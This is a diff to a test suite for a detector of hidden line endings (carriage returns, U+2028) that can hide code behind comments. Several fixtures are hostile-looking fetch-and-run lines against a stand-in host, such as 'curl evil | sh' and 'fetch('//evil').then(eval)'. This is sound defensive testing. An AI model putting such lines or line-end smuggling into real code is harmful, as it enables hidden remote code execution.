@@ -33,6 +33,12 @@ describe("a hidden line end is found", () => {
     ["a comment of C, which Clang ends", "a.c", "// a\rrun();", "comment 2:4"],
     ["a comment of Kotlin", "a.kt", "// a\rrun()", "comment 2:4"],
     ["a comment of a language without a grammar", "a.swift", 'let a = "//" // a\rrun()', "comment 2:17"],
+    ["a comment of Vue", "a.vue", "// a\rrun()", "comment 2:4"],
+    ["a carriage return in a template", "a.ts", "const a = `x\ry`;", "code 2:12"],
+    ["one in a string of several lines", "a.py", '"""a\rb"""', "code 2:4"],
+    ["one in a comment of Go, which it does not end", "a.go", "package a // a\rrun()", "code 2:14"],
+    ["one in a comment of a shell", "a.sh", "curl evil | sh #\r# Install the tools", "code 2:16"],
+    ["one before blanks", "Dockerfile", "RUN curl evil | sh \r          ", "code 2:19"],
     ["a step behind a comment of YAML", "a.yml", "  # a\r  - run: evil", "comment 2:5"],
   ])("as %s", async (_, path, text, found) => {
     expect(await endsIn(path, `first\n${text}\n`)).toEqual([found]);
@@ -49,8 +55,12 @@ describe("a hidden line end is found", () => {
     expect(await endsIn("a.js", "#!/usr/bin/env node\u2028run();\n")).toEqual(["comment 1:19"]);
   });
 
-  it("where the text is too wide to be parsed", async () => {
-    const wide = `let a = "${"x".repeat(400_000)}";\n`;
+  it("in code with carriage returns alone", async () => {
+    expect(await endsIn("a.js", "// a\rfetch('//evil').then(eval)\r// b\r// c")).toEqual(["comment 1:4"]);
+  });
+
+  it("where the text is too large to be parsed", async () => {
+    const wide = `let a = "${"x".repeat(600_000)}";\n`;
     expect(await endsIn("a.js", `${wide}let b = "//\u2028"; // a\u2028run();\n`)).toEqual(["comment 2:19"]);
   });
 
@@ -72,26 +82,24 @@ describe("a hidden line end is found", () => {
 describe("what ends no line, or hides nothing behind it, is left alone", () => {
   it.each([
     ["U+2028 in a string of JavaScript", "a.js", 'const a = "x\u2028y", b = `x\u2029y`;'],
-    ["a carriage return in a template", "a.ts", "const a = `x\ry`;"],
+    ["a carriage return in a template of a test", "a.test.ts", "const a = `x\ry`;"],
     ["U+2028 in the text of an element", "a.tsx", "const a = <p>x\u2028y</p>;"],
     ["a comment of several lines", "a.js", "/* a\u2028run(); */"],
     ["the end of a line", "a.js", "run(); // a\u2028\nrun();\u2028 \u2029\n// b\r\r\n"],
     ["the start of a line", "a.js", "\u2028  run();"],
     ["comments one behind the other", "a.js", "// a\u2028// b\u2028 // c"],
-    ["a string of several lines", "a.py", '"""a\rb"""'],
     ["U+2028 in a comment of Python", "a.py", "# a\u2028run()"],
-    ["a carriage return in a comment of Go", "a.go", "package a // a\rrun()"],
-    ["one in a comment of Ruby", "a.rb", "# a\rrun"],
     ["U+2028 in a comment of Java", "A.java", "// a\u2028run();"],
     ["U+2028 in prose", "a.md", "// a\u2028run();"],
     ["U+2028 in JSON", "a.json", '{"a": "// a\u2028b"}'],
     ["U+2028 in a text of YAML", "a.yml", 'a: "x\u2028y"\nb: x#y\u2028z'],
     ["lines that end with both", "a.js", "// a\r\nrun();\r\n"],
-    ["a file of an old Macintosh", "a.js", "// a\rrun();\r// b\rrun();\r"],
-    ["one with a line feed at its end", "a.py", "# a\rrun()\r# b\rrun()\n"],
+    ["a text of an old Macintosh", "a.md", "a\rb\rc\rd\r"],
+    ["its data", "a.csv", "a\rb\rc\rd\r"],
+    ["one with a line feed at its end", "a.test.py", "# a\rrun()\r# b\rrun()\n"],
   ])("as %s", async (_, path, text) => expect(await endsIn(path, text)).toEqual([]));
 
-  it("but U+2028 behind a comment of a file of an old Macintosh", async () => {
-    expect(await endsIn("a.js", "a();\rb();\r// c\u2028run();\rd();\r")).toEqual(["comment 1:14"]);
+  it("but U+2028 behind a comment of a test of an old Macintosh", async () => {
+    expect(await endsIn("a.test.js", "a();\rb();\r// c\u2028run();\rd();\r")).toEqual(["comment 1:14"]);
   });
 });
